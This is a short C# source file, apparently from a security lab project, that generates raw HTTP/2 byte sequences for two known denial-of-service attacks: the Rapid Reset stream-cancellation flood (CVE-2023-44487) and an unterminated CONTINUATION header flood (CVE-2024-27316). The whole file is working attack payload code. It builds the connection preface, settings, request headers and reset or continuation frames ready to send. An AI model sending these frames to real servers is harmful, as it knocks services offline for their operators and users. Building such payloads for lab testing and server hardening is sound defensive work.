using System.Buffers.Binary;

namespace Hustings.Lab.Attacks.Flood;

/// <summary>
/// Frames of HTTP/2 (RFC 9113, section 4.1) as the attacks of 2023 and 2024 send them: streams that are reset as soon as they are open, and
/// a header in pieces without end.
/// </summary>
public static class Http2Frames
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Continuation = 9;
    private const byte EndStream = 1;
    private const byte EndHeaders = 4;
    private const int Streams = 100;

    // ":method GET", ":scheme https", ":path /" of the static table.
    private static readonly byte[] Request = [0x82, 0x87, 0x84];

    /// <summary>Prior knowledge, then a hundred requests taken back at once (CVE-2023-44487).</summary>
    public static byte[] RapidReset()
    {
        using var bytes = new MemoryStream();
        Begin(bytes);
        for (int stream = 1; stream < 2 * Streams; stream += 2)
        {
            Frame(bytes, Headers, EndStream | EndHeaders, stream, Request);
            Frame(bytes, Reset, 0, stream, [0, 0, 0, 8]);
        }

        return bytes.ToArray();
    }

    /// <summary>Prior knowledge, then a header that never ends (CVE-2024-27316 and its kin).</summary>
    public static byte[] EndlessHeader()
    {
        using var bytes = new MemoryStream();
        Begin(bytes);
        Frame(bytes, Headers, 0, 1, Request);
        for (int piece = 0; piece < Streams; piece++)
        {
            // A literal header that is never indexed: "a: b".
            Frame(bytes, Continuation, 0, 1, [0x10, 1, (byte)'a', 1, (byte)'b']);
        }

        return bytes.ToArray();
    }

    private static void Begin(MemoryStream bytes)
    {
        bytes.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        Frame(bytes, Settings, 0, 0, []);
    }

    private static void Frame(MemoryStream bytes, byte type, int flags, int stream, ReadOnlySpan<byte> payload)
    {
        Span<byte> head = stackalloc byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        head[3] = type;
        head[4] = (byte)flags;
        BinaryPrimitives.WriteInt32BigEndian(head[5..], stream);
        bytes.Write(head);
        bytes.Write(payload);
    }
}
